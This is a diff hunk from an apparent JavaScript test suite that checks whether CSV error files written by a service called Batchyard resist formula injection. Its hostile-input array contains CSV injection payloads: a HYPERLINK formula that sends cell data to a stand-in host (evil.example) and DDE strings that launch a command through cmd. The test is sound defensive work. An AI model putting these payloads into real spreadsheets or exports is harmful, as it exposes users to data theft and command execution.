@@ -54,7 +54,7 @@ describe('CSV files Batchyard writes, against formula injection (embedded)', () 
   }, 120_000);
 
   it('writes a bulk job error file whose client-chosen field names cannot run as formulas', async () => {
-    const hostile = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3'];
+    const hostile = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '-2+3'];
     const data = hostile.map((field) => ({ name: 'Mallory', [field]: 'x' }));
     const job = await http(`${by.url}/v1/batches`, { method: 'POST', headers: { 'px-api-key': by.key }, body: { resource: 'contact', action: 'merge', mode: 'sync', data } });
     expect(job.status).toBe(201);
